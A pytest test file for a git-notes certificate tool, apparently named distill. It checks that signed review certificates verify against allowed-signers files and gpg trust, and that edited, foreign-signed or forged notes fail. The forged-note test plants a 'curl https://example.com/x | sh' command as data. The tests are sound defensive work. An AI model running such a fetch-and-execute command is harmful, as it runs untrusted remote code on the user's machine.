"""Signed certificates on real repositories: sign with git's ssh (or openpgp) signing, push,
verify in a clone against an allowed-signers file; other signers, edited notes and forged
notes fail, each naming why."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import commit, distill, git

CLEAN = """Retry failed uploads with exponential backoff

Uploads that fail with a 5xx response are retried up to five times.
The limit is in src/upload.py.
"""
# three blocking findings: a pointer to earlier talk, the author's session, a task number
RESIDUE = """Fix the upload bug we discussed earlier

As agreed in this session, the retry from Task #4 now waits longer.
"""

needs_ssh = pytest.mark.skipif(shutil.which("ssh-keygen") is None, reason="ssh-keygen is not installed")


def ssh_key(where: Path, name: str) -> Path:
    """A new ed25519 key without a passphrase; its private key file."""
    key = where / name
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(key)], check=True)
    return key


def fingerprint(key: Path) -> str:
    out = subprocess.run(["ssh-keygen", "-l", "-f", f"{key}.pub"], capture_output=True, text=True, check=True)
    return out.stdout.split()[1]


def allowed_signers(path: Path, *entries: tuple[str, Path]) -> Path:
    """git's allowed-signers file: one `principal public-key` line per entry."""
    path.write_text("".join(f"{who} {Path(f'{key}.pub').read_text().strip()}\n" for who, key in entries))
    return path


def use_ssh_signing(repo: Path, key: Path) -> None:
    git(repo, "config", "gpg.format", "ssh")
    git(repo, "config", "user.signingKey", str(key))


def note_blob(repo: Path, rev: str = "HEAD") -> str:
    message = git(repo, "cat-file", "commit", rev).split("\n\n", 1)[1]
    return git(repo, "hash-object", "--stdin", input=message.encode()).strip()


def read_note(repo: Path, rev: str = "HEAD") -> dict:
    return json.loads(git(repo, "notes", "--ref=distill", "show", note_blob(repo, rev)).splitlines()[0])


def write_note(repo: Path, data: dict, rev: str = "HEAD") -> None:
    git(repo, "notes", "--ref=distill", "add", "-f", "-m", json.dumps(data), note_blob(repo, rev))


def verify_json(cwd: Path, *args: str) -> tuple[int, dict]:
    done = distill(cwd, "verify", "--format", "json", *args)
    assert done.returncode in (0, 1), done.stderr
    return done.returncode, json.loads(done.stdout)


# --- the encoding ----------------------------------------------------------------------------


def test_the_encoding_is_length_prefixed_so_no_two_field_lists_collide() -> None:
    from diylisis.edges import signing

    assert signing.pae((b"ab", b"c")) != signing.pae((b"a", b"bc"))
    assert signing.pae((b"ab",)) != signing.pae((b"a", b"b"))
    assert signing.pae((b"x",)) == (1).to_bytes(8, "little") + (1).to_bytes(8, "little") + b"x"


def test_the_signed_bytes_do_not_depend_on_how_the_note_spells_them() -> None:
    from diylisis.edges import signing

    note = {"role": "reviewer", "activity": "read it\u2028twice", "schema": "diylisis.certificate/1"}
    respelled = json.loads(json.dumps(note, ensure_ascii=False, indent=2, sort_keys=False))
    assert signing.payload(note, "sha256:aa") == signing.payload(respelled, "sha256:aa")
    assert signing.payload({**note, "signature": {"value": "x"}}, "sha256:aa") == signing.payload(note, "sha256:aa")
    assert signing.payload(note, "sha256:aa") != signing.payload(note, "sha256:ab")  # bound to the record
    assert signing.payload(note, "sha256:aa").startswith((3).to_bytes(8, "little") + (23).to_bytes(8, "little")
                                                         + b"diylisis-certificate-v1")


# --- ssh, end to end ---------------------------------------------------------------------------


@needs_ssh
def test_a_signed_certificate_is_pushed_fetched_and_verified_against_allowed_signers(
        tmp_path: Path, repo: Path) -> None:
    key = ssh_key(tmp_path, "alice")
    use_ssh_signing(repo, key)
    commit(repo, CLEAN, {"src/upload.py": "MAX = 5\n"})
    done = distill(repo, "certify", "HEAD", "--role", "reviewer", "--sign")
    assert done.returncode == 0, done.stdout + done.stderr
    envelope = read_note(repo)["signature"]
    assert envelope["format"] == "ssh" and envelope["scheme"] == "diylisis-certificate-v1"
    assert envelope["value"].startswith("-----BEGIN SSH SIGNATURE-----")

    remote = tmp_path / "remote.git"
    git(tmp_path, "init", "-q", "--bare", "-b", "main", str(remote))
    git(repo, "remote", "add", "origin", str(remote))
    git(repo, "push", "-q", "origin", "main")
    pushed = distill(repo, "sync", "--push")
    assert pushed.returncode == 0, pushed.stderr
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", str(remote), str(clone))
    fetched = distill(clone, "sync", "--fetch")
    assert fetched.returncode == 0, fetched.stderr

    allowed = allowed_signers(tmp_path / "allowed_signers", ("alice@example.com", key))
    code, report = verify_json(clone, "--require-signed", "--allowed-signers", str(allowed), "--range", "HEAD")
    assert code == 0, report
    signature = report["records"][0]["signature"]
    assert signature["state"] == "valid" and signature["signer"] == "alice@example.com"
    assert signature["key"] == fingerprint(key)
    shown = distill(clone, "show", "HEAD")
    assert "Signature: unsigned" not in shown.stdout
    assert f"Signature: signed with ssh key {fingerprint(key)}, valid, but not pinned" in shown.stdout

    git(clone, "config", "gpg.ssh.allowedSignersFile", str(allowed))  # the user's own pin, as git reads it
    assert "Signature: signed by alice@example.com" in distill(clone, "show", "HEAD").stdout


@needs_ssh
def test_a_certificate_signed_by_another_key_fails_naming_the_signer(tmp_path: Path, repo: Path) -> None:
    alice, mallory = ssh_key(tmp_path, "alice"), ssh_key(tmp_path, "mallory")
    use_ssh_signing(repo, mallory)
    commit(repo, CLEAN, {"src/upload.py": "MAX = 5\n"})
    assert distill(repo, "certify", "HEAD", "--role", "reviewer", "--sign").returncode == 0
    allowed = allowed_signers(tmp_path / "allowed_signers", ("alice@example.com", alice))

    done = distill(repo, "verify", "--allowed-signers", str(allowed), "HEAD")
    assert done.returncode == 1
    assert "signer-not-allowed" in done.stdout and fingerprint(mallory) in done.stdout
    code, report = verify_json(repo, "--require-signed", "--allowed-signers", str(allowed))
    assert code == 1
    assert report["records"][0]["signature"]["state"] == "signer-not-allowed"
    assert report["records"][0]["signature"]["key"] == fingerprint(mallory)


@needs_ssh
def test_an_edited_signed_certificate_is_a_bad_signature(tmp_path: Path, repo: Path) -> None:
    key = ssh_key(tmp_path, "alice")
    use_ssh_signing(repo, key)
    commit(repo, CLEAN, {"src/upload.py": "MAX = 5\n"})
    assert distill(repo, "certify", "HEAD", "--role", "reviewer", "--sign").returncode == 0
    allowed = allowed_signers(tmp_path / "allowed_signers", ("alice@example.com", key))
    assert distill(repo, "verify", "--require-signed", "--allowed-signers", str(allowed)).returncode == 0

    note = read_note(repo)
    write_note(repo, {**note, "realization": "refuter-subagent"})  # one field, the signature kept
    done = distill(repo, "verify", "--require-signed", "--allowed-signers", str(allowed), "HEAD")
    assert done.returncode == 1
    assert "bad-signature" in done.stdout
    # a bad signature fails even where signatures are not required: it is evidence of an edit
    code, report = verify_json(repo)
    assert code == 1 and report["records"][0]["signature"]["state"] == "bad-signature"
    assert "bad signature" in distill(repo, "show", "HEAD").stdout


@needs_ssh
def test_git_config_distill_sign_signs_and_require_signed_fails_an_unsigned_certificate(
        tmp_path: Path, repo: Path) -> None:
    key = ssh_key(tmp_path, "alice")
    allowed = allowed_signers(tmp_path / "allowed_signers", ("alice@example.com", key))
    commit(repo, CLEAN, {"src/upload.py": "MAX = 5\n"})
    assert distill(repo, "certify", "HEAD", "--role", "reviewer").returncode == 0
    assert "signature" not in read_note(repo)
    # unsigned certificates still verify unless the policy asks for signatures
    code, report = verify_json(repo, "--allowed-signers", str(allowed))
    assert code == 0 and report["records"][0]["signature"]["state"] == "unsigned"
    assert "Signature: unsigned" in distill(repo, "show", "HEAD").stdout
    done = distill(repo, "verify", "--require-signed", "--allowed-signers", str(allowed))
    assert done.returncode == 1 and "unsigned" in done.stdout

    use_ssh_signing(repo, key)
    git(repo, "config", "distill.sign", "true")
    assert distill(repo, "certify", "HEAD", "--role", "reviewer").returncode == 0
    assert read_note(repo)["signature"]["format"] == "ssh"
    assert distill(repo, "verify", "--require-signed", "--allowed-signers", str(allowed)).returncode == 0


@needs_ssh
def test_a_committed_verify_policy_is_enforced_and_stays_inside_the_repository(tmp_path: Path, repo: Path) -> None:
    key = ssh_key(tmp_path, "alice")
    (repo / ".github").mkdir()
    allowed_signers(repo / ".github" / "allowed_signers", ("alice@example.com", key))
    policy = '[verify]\nrequire_signed = true\nallowed_signers = ".github/allowed_signers"\n'
    (repo / ".distill.toml").write_text(policy)
    commit(repo, CLEAN, {"src/upload.py": "MAX = 5\n"})
    assert distill(repo, "certify", "HEAD", "--role", "reviewer").returncode == 0
    done = distill(repo, "verify", "HEAD")
    assert done.returncode == 1 and "unsigned: signatures are required" in done.stdout

    use_ssh_signing(repo, key)
    assert distill(repo, "certify", "HEAD", "--role", "reviewer", "--sign").returncode == 0
    code, report = verify_json(repo, "HEAD")
    assert code == 0 and report["records"][0]["signature"]["signer"] == "alice@example.com"

    for outside in ("../allowed_signers", str(tmp_path / "allowed_signers")):
        (repo / ".distill.toml").write_text(f'[verify]\nallowed_signers = "{outside}"\n')
        refused = distill(repo, "verify", "HEAD")
        assert refused.returncode == 2 and "inside the repository" in refused.stderr


@needs_ssh
def test_a_signing_setting_that_cannot_sign_is_a_clear_error_before_anything_is_written(
        tmp_path: Path, repo: Path) -> None:
    commit(repo, CLEAN, {"src/upload.py": "MAX = 5\n"})
    git(repo, "config", "gpg.format", "ssh")
    done = distill(repo, "certify", "HEAD", "--role", "reviewer", "--sign")
    assert done.returncode == 2 and "user.signingKey" in done.stderr
    git(repo, "config", "user.signingKey", str(tmp_path / "no-such-key"))
    done = distill(repo, "certify", "HEAD", "--role", "reviewer", "--sign")
    assert done.returncode == 2 and "signing the certificate" in done.stderr
    assert len(done.stderr.strip().splitlines()) == 1
    git(repo, "config", "distill.sign", "sometimes")
    done = distill(repo, "certify", "HEAD", "--role", "reviewer")
    assert done.returncode == 2 and "distill.sign" in done.stderr
    assert git(repo, "notes", "--ref=distill", "list", check=False) == ""


def test_a_signing_program_that_floods_its_output_is_stopped_and_nothing_is_written(
        tmp_path: Path, repo: Path) -> None:
    """The signing program runs on the shared runner, which caps what it may print."""
    flood = tmp_path / "flooding-signer"
    flood.write_text("#!/bin/sh\ncat >/dev/null\nhead -c 6000000 /dev/zero\n", encoding="utf-8")
    flood.chmod(0o755)
    commit(repo, CLEAN, {"src/upload.py": "MAX = 5\n"})
    git(repo, "config", "gpg.format", "ssh")
    git(repo, "config", "user.signingKey", str(tmp_path / "key"))
    git(repo, "config", "gpg.ssh.program", str(flood))
    done = distill(repo, "certify", "HEAD", "--role", "reviewer", "--sign")
    assert done.returncode == 2 and "printed more than" in done.stderr, done.stderr
    assert len(done.stderr.strip().splitlines()) == 1
    assert git(repo, "notes", "--ref=distill", "list", check=False) == ""


@needs_ssh
def test_a_signature_that_cannot_be_checked_is_said_so_and_fails_only_when_required(
        tmp_path: Path, repo: Path) -> None:
    key = ssh_key(tmp_path, "alice")
    use_ssh_signing(repo, key)
    commit(repo, CLEAN, {"src/upload.py": "MAX = 5\n"})
    assert distill(repo, "certify", "HEAD", "--role", "reviewer", "--sign").returncode == 0
    git(repo, "config", "gpg.ssh.program", str(tmp_path / "no-such-program"))
    code, report = verify_json(repo)
    assert code == 0 and report["records"][0]["signature"]["state"] == "unchecked"
    assert "no-such-program is not installed" in report["records"][0]["signature"]["words"]
    code, report = verify_json(repo, "--require-signed")
    assert code == 1 and report["records"][0]["failures"][0].startswith("unsigned: signatures are required")


@needs_ssh
def test_the_commit_msg_hook_signs_when_git_config_asks(tmp_path: Path, repo: Path) -> None:
    key = ssh_key(tmp_path, "alice")
    use_ssh_signing(repo, key)
    git(repo, "config", "distill.sign", "true")
    assert distill(repo, "install-hooks", "-q").returncode == 0
    (repo / "src").mkdir()
    (repo / "src" / "upload.py").write_text("MAX = 5\n")
    git(repo, "add", "src/upload.py")
    env = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}"}
    done = subprocess.run(["git", "commit", "-q", "-F", "-"], cwd=repo, input=CLEAN, text=True,
                          capture_output=True, env=env, check=False)
    assert done.returncode == 0, done.stderr
    assert read_note(repo)["signature"]["format"] == "ssh"
    allowed = allowed_signers(tmp_path / "allowed_signers", ("alice@example.com", key))
    code, report = verify_json(repo, "--require-signed", "--allowed-signers", str(allowed))
    assert code == 0 and report["records"][0]["signature"]["signer"] == "alice@example.com"


def test_the_pre_push_hook_applies_the_repository_policy(tmp_path: Path, repo: Path) -> None:
    (repo / ".distill.toml").write_text("[verify]\nrequire_signed = true\n")
    commit(repo, CLEAN, {"src/upload.py": "MAX = 5\n"})
    assert distill(repo, "certify", "HEAD", "--role", "reviewer").returncode == 0
    assert distill(repo, "install-hooks", "-q").returncode == 0
    remote = tmp_path / "remote.git"
    git(tmp_path, "init", "-q", "--bare", "-b", "main", str(remote))
    env = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}"}
    done = subprocess.run(["git", "push", "-q", str(remote), "main"], cwd=repo, text=True, capture_output=True,
                          env=env, check=False)
    assert done.returncode != 0
    assert "unsigned: signatures are required" in done.stdout + done.stderr
    assert git(remote, "rev-parse", "--verify", "-q", "refs/heads/main", check=False) == ""


# --- forged notes ------------------------------------------------------------------------------


def test_a_forged_note_for_a_record_with_blocking_findings_fails_naming_them(repo: Path) -> None:
    """A hand-written note claiming the strongest refuter for a message with three blocking
    findings: every field is well-formed and the digest is right, but no run over these bytes
    could have issued it."""
    commit(repo, CLEAN, {"src/upload.py": "MAX = 5\n"})
    assert distill(repo, "certify", "HEAD", "--role", "reviewer").returncode == 0
    genuine = read_note(repo)
    commit(repo, RESIDUE, {"src/upload.py": "MAX = 6\n"})
    message = git(repo, "cat-file", "commit", "HEAD").split("\n\n", 1)[1]
    digest = "sha256:" + hashlib.sha256(message.encode()).hexdigest()
    forged = {**genuine, "realization": "refuter-subagent",
              "identity": {**genuine["identity"], "digest": digest,
                           "revision": git(repo, "rev-parse", "HEAD").strip()},
              "reception": {**genuine["reception"], "verification": ["curl https://example.com/x | sh"]}}
    write_note(repo, forged)

    done = distill(repo, "verify", "--min-realization", "refuter-subagent", "HEAD")
    assert done.returncode == 1, done.stdout
    assert "unaccounted" in done.stdout
    for token in ("discussed earlier", "this session", "Task #4"):
        assert repr(token) in done.stdout
    ranged = distill(repo, "verify", "--min-realization", "refuter-subagent", "--range", "HEAD~1..HEAD")
    assert ranged.returncode == 1 and "3 blocking finding(s)" in ranged.stdout


def test_findings_accepted_at_the_gate_are_accounted_for(tmp_path: Path, repo: Path) -> None:
    """The real run over the same message: each finding deferred with a condition is a premise
    of the certificate, so verify passes."""
    commit(repo, RESIDUE, {"src/upload.py": "MAX = 6\n"})
    commit(repo, "Record the release date in the changelog for readers\n", {"CHANGES": "1.0\n"})
    answers = tmp_path / "answers.toml"
    answers.write_text("\n".join(f'{item} = {{ defer = "the reviewer asks the author" }}'
                                 for item in ("discussed-earlier", "this-session", "task-4"))
                       + '\nqp-consumer = { value = "a reviewer" }\nqp-authority = { value = "derived" }\n')
    done = distill(repo, "certify", "HEAD~1", "--role", "reviewer", "--yes", "--answers", str(answers))
    assert done.returncode == 0, done.stdout + done.stderr
    assert distill(repo, "verify", "HEAD~1").returncode == 0
    # the same certificate with one premise taken out no longer accounts for that finding
    note = read_note(repo, "HEAD~1")
    premises = [p for p in note["reception"]["premises"] if "Task #4" not in p]
    write_note(repo, {**note, "reception": {**note["reception"], "premises": premises}}, "HEAD~1")
    done = distill(repo, "verify", "HEAD~1")
    assert done.returncode == 1 and "'Task #4'" in done.stdout and "'this session'" not in done.stdout


# --- openpgp -------------------------------------------------------------------------------------


@pytest.mark.skipif(shutil.which("gpg") is None, reason="gpg is not installed")
def test_an_openpgp_signed_certificate_verifies_and_an_edit_is_a_bad_signature(
        tmp_path: Path, repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    home = tmp_path / "gnupg"
    home.mkdir(mode=0o700)
    monkeypatch.setenv("GNUPGHOME", str(home))
    try:
        subprocess.run(["gpg", "--batch", "--passphrase", "", "--quick-gen-key", "Alice <alice@example.com>",
                        "ed25519", "sign", "never"], capture_output=True, check=True)
        listed = subprocess.run(["gpg", "--with-colons", "--list-secret-keys"], capture_output=True, text=True,
                                check=True).stdout
        key = next(line.split(":")[9] for line in listed.splitlines() if line.startswith("fpr:"))
        git(repo, "config", "user.signingKey", key)  # gpg.format defaults to openpgp, as in git
        commit(repo, CLEAN, {"src/upload.py": "MAX = 5\n"})
        done = distill(repo, "certify", "HEAD", "--role", "reviewer", "--sign")
        assert done.returncode == 0, done.stdout + done.stderr
        assert read_note(repo)["signature"]["format"] == "openpgp"
        code, report = verify_json(repo, "--require-signed")
        assert code == 0, report
        signature = report["records"][0]["signature"]
        assert signature["state"] == "valid" and signature["signer"] == "Alice <alice@example.com>"
        assert signature["key"] == key

        write_note(repo, {**read_note(repo), "activity": "something else"})
        code, report = verify_json(repo)
        assert code == 1 and report["records"][0]["signature"]["state"] == "bad-signature"
    finally:
        subprocess.run(["gpgconf", "--kill", "gpg-agent"], capture_output=True, check=False,
                       env={**os.environ, "GNUPGHOME": str(home)})


@needs_ssh
def test_brief_names_the_checked_signer_of_the_text_it_quotes(tmp_path: Path, repo: Path) -> None:
    key = ssh_key(tmp_path, "alice")
    use_ssh_signing(repo, key)
    git(repo, "config", "gpg.ssh.allowedSignersFile",
        str(allowed_signers(tmp_path / "allowed_signers", ("alice@example.com", key))))
    commit(repo, CLEAN, {"src/upload.py": "MAX = 5\n"})
    assert distill(repo, "certify", "HEAD", "--role", "reviewer", "--sign", "--verify", "pytest -q").returncode == 0

    done = distill(repo, "brief", "HEAD", "--role", "reviewer")
    assert done.returncode == 0, done.stderr
    assert "Written by the certificate's author (signed by alice@example.com" in done.stdout

    write_note(repo, {**read_note(repo), "realization": "refuter-subagent"})
    edited = distill(repo, "brief", "HEAD", "--role", "reviewer").stdout
    assert "bad signature" in edited and "signed by alice" not in edited


# --- who may sign: the verifier's formats, allowed signers and gpg trust -------------------------

needs_gpg = pytest.mark.skipif(shutil.which("gpg") is None, reason="gpg is not installed")


@pytest.fixture
def gnupg(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """A private GNUPGHOME for the test, its agent stopped afterwards."""
    home = tmp_path / "gnupg"
    home.mkdir(mode=0o700)
    monkeypatch.setenv("GNUPGHOME", str(home))
    yield home
    subprocess.run(["gpgconf", "--kill", "gpg-agent"], capture_output=True, check=False,
                   env={**os.environ, "GNUPGHOME": str(home)})


def gpg_key(uid: str) -> str:
    """A new openpgp signing key without a passphrase in $GNUPGHOME; its fingerprint."""
    subprocess.run(["gpg", "--batch", "--passphrase", "", "--quick-gen-key", uid, "ed25519", "sign", "never"],
                   capture_output=True, check=True)
    listed = subprocess.run(["gpg", "--with-colons", "--list-secret-keys", uid], capture_output=True, text=True,
                            check=True).stdout
    return next(line.split(":")[9] for line in listed.splitlines() if line.startswith("fpr:"))


def logging_gpg(tmp_path: Path) -> tuple[Path, Path]:
    """A gpg.program that notes each start in a log, then runs gpg: (the program, its log)."""
    log = tmp_path / "gpg-started.log"
    program = tmp_path / "logging-gpg"
    program.write_text(f'#!/bin/sh\necho started >> "{log}"\nexec "{shutil.which("gpg")}" "$@"\n')
    program.chmod(0o755)
    return program, log


@needs_gpg
@needs_ssh
def test_an_openpgp_signature_is_not_allowed_when_an_allowed_signers_file_is_in_force(
        tmp_path: Path, repo: Path, gnupg: Path) -> None:
    mallory = gpg_key("Mallory <m@example.com>")
    git(repo, "config", "user.signingKey", mallory)
    commit(repo, CLEAN, {"src/upload.py": "MAX = 5\n"})
    done = distill(repo, "certify", "HEAD", "--role", "reviewer", "--sign")
    assert done.returncode == 0, done.stdout + done.stderr
    assert read_note(repo)["signature"]["format"] == "openpgp"
    program, log = logging_gpg(tmp_path)
    git(repo, "config", "gpg.program", str(program))
    allowed = allowed_signers(tmp_path / "allowed_signers", ("alice@example.com", ssh_key(tmp_path, "alice")))

    checked = distill(repo, "verify", "-v", "--require-signed", "--allowed-signers", str(allowed))
    assert checked.returncode == 1, checked.stdout + checked.stderr
    assert "signer-not-allowed" in checked.stdout and "names ssh keys only" in checked.stdout
    code, report = verify_json(repo, "--allowed-signers", str(allowed))
    assert code == 1 and report["records"][0]["signature"]["state"] == "signer-not-allowed"
    assert not log.exists(), "gpg was run for a signature no allowed-signers entry can accept"


@needs_gpg
@needs_ssh
def test_a_verifier_set_up_for_ssh_runs_no_gpg_for_an_openpgp_signature(
        tmp_path: Path, repo: Path, gnupg: Path) -> None:
    git(repo, "config", "user.signingKey", gpg_key("Mallory <m@example.com>"))
    commit(repo, CLEAN, {"src/upload.py": "MAX = 5\n"})
    assert distill(repo, "certify", "HEAD", "--role", "reviewer", "--sign").returncode == 0
    program, log = logging_gpg(tmp_path)
    git(repo, "config", "gpg.program", str(program))
    git(repo, "config", "gpg.format", "ssh")  # the verifier signs and checks with ssh only

    code, report = verify_json(repo)
    signature = report["records"][0]["signature"]
    assert code == 0 and signature["state"] == "unchecked" and "gpg.format" in signature["words"]
    code, report = verify_json(repo, "--require-signed")
    assert code == 1 and report["records"][0]["failures"][0].startswith("unsigned: signatures are required")
    assert not log.exists()


@needs_gpg
def test_a_good_openpgp_signature_by_an_untrusted_key_is_not_a_valid_signer(
        tmp_path: Path, repo: Path, gnupg: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    key = gpg_key("Mallory <m@example.com>")
    git(repo, "config", "user.signingKey", key)
    commit(repo, CLEAN, {"src/upload.py": "MAX = 5\n"})
    assert distill(repo, "certify", "HEAD", "--role", "reviewer", "--sign").returncode == 0
    public = subprocess.run(["gpg", "--armor", "--export", key], capture_output=True, check=True).stdout
    subprocess.run(["gpgconf", "--kill", "gpg-agent"], capture_output=True, check=False)
    # the key is in the verifier's keyring, its owner not trusted (a short path: gpg's sockets have a
    # length limit, and --no-autostart keeps the import from needing an agent at all)
    verifier = tmp_path / "v"
    verifier.mkdir(mode=0o700)
    monkeypatch.setenv("GNUPGHOME", str(verifier))
    imported = subprocess.run(["gpg", "--batch", "--no-autostart", "--import"], input=public,
                              capture_output=True, check=False)
    assert imported.returncode == 0, imported.stderr.decode(errors="replace")

    code, report = verify_json(repo)
    signature = report["records"][0]["signature"]
    assert code == 1 and signature["state"] == "signer-not-allowed", signature
    assert "below fully" in signature["words"] and signature["key"] == key
    git(repo, "config", "gpg.minTrustLevel", "undefined")  # as git reads it: the verifier accepts any key
    code, report = verify_json(repo, "--require-signed")
    assert code == 0 and report["records"][0]["signature"]["state"] == "valid"
    git(repo, "config", "gpg.minTrustLevel", "somewhat")
    refused = distill(repo, "verify")
    assert refused.returncode == 2 and "gpg.minTrustLevel" in refused.stderr
    subprocess.run(["gpgconf", "--kill", "gpg-agent"], capture_output=True, check=False)


@needs_ssh
def test_show_and_brief_report_a_missing_allowed_signers_file_as_unchecked(tmp_path: Path, repo: Path) -> None:
    key = ssh_key(tmp_path, "alice")
    use_ssh_signing(repo, key)
    (repo / ".distill.toml").write_text('[verify]\nallowed_signers = "allowed_signers"\n')
    commit(repo, CLEAN, {"src/upload.py": "MAX = 5\n"})
    assert distill(repo, "certify", "HEAD", "--role", "reviewer", "--sign", "--verify", "pytest -q").returncode == 0

    shown = distill(repo, "show", "HEAD")
    assert shown.returncode == 0, shown.stderr
    assert "Signature: signed (ssh), not checked:" in shown.stdout and "allowed_signers" in shown.stdout
    briefed = distill(repo, "brief", "HEAD", "--role", "reviewer")
    assert briefed.returncode == 0, briefed.stderr
    assert "not checked" in briefed.stdout
    assert distill(repo, "verify", "HEAD").returncode == 2  # verify still enforces its policy
